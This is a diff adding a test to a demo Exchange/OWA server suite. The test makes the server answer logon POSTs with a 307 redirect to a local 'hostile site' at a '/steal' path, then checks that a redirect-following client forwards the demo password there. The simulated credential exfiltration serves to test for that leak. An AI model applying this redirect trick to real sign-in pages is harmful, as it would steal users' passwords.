@@ -1,7 +1,8 @@
-// The demo Exchange where forms logon is not available: AD FS, Entra ID, ISA/TMG.
+// The demo Exchange where forms logon is not available (AD FS, Entra ID, ISA/TMG), and turned hostile.
 import { afterEach, describe, expect, it } from 'vitest';
 import { startDemoExchange, type DemoExchange } from '../demo';
 import { client, readForm } from './helpers/http-client';
+import { startHostileSite } from '../demo/hostile-site';
 
 let demo: DemoExchange | undefined;
 afterEach(async () => {
@@ -64,5 +65,30 @@ describe('demo Exchange: non-forms modes', () => {
 
   it('refuses AD FS or Entra for 2003', async () => {
     await expect(startDemoExchange({ generation: '2003', fbaMode: 'adfs' })).rejects.toThrow(/needs generation '2010'/);
+  });
+});
+
+describe('demo Exchange turned hostile, and the hostile site', () => {
+  it('redirectLogonPosts: every logon POST is recorded and answered with the redirect; null restores sign-ins', async () => {
+    demo = await startDemoExchange({ generation: '2010', users: { alice: 'Demo-Passw0rd' } });
+    const hostile = await startHostileSite();
+    try {
+      expect(new URL(hostile.origin).hostname).toBe('127.0.0.2');
+      demo.redirectLogonPosts({ status: 307, location: `${hostile.origin}/steal` });
+      const form = new URLSearchParams({ destination: `${demo.origin}/owa/`, flags: '0', username: 'alice', password: 'Demo-Passw0rd' });
+      const manual = await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'manual' });
+      expect(manual.status).toBe(307);
+      expect(manual.headers.get('location')).toBe(`${hostile.origin}/steal`);
+      expect(demo.sessions()).toEqual([]);
+      // What a client that follows redirects does: the body goes on to the other host.
+      await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'follow' });
+      expect(hostile.requests.map((r) => [r.method, r.url, new URLSearchParams(r.body).get('password')])).toEqual([['POST', '/steal', 'Demo-Passw0rd']]);
+      demo.redirectLogonPosts(null);
+      expect((await fetch(`${demo.origin}/owa/auth.owa`, { method: 'POST', body: form, redirect: 'manual' })).status).toBe(302);
+      expect(demo.sessions()).toHaveLength(1);
+      expect(demo.logonPosts()).toHaveLength(3);
+    } finally {
+      await hostile.close();
+    }
   });
 });
